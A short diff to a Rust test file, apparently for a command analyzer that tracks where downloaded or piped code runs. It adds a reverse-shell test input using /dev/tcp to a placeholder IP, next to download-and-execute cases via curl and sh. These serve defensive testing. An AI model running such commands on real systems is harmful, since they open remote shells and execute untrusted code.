@@ -23,6 +23,10 @@ fn a_download_is_followed_to_where_it_runs() {
         ),
         ("cat x | sh", "interpret code the standard input <program"),
         (
+            "nohup env bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
+            "interpret code the standard input <network",
+        ),
+        (
             "curl -o x.sh https://e.com/x; sh x.sh",
             "interpret path /home/u/p/x.sh project <network",
         ),
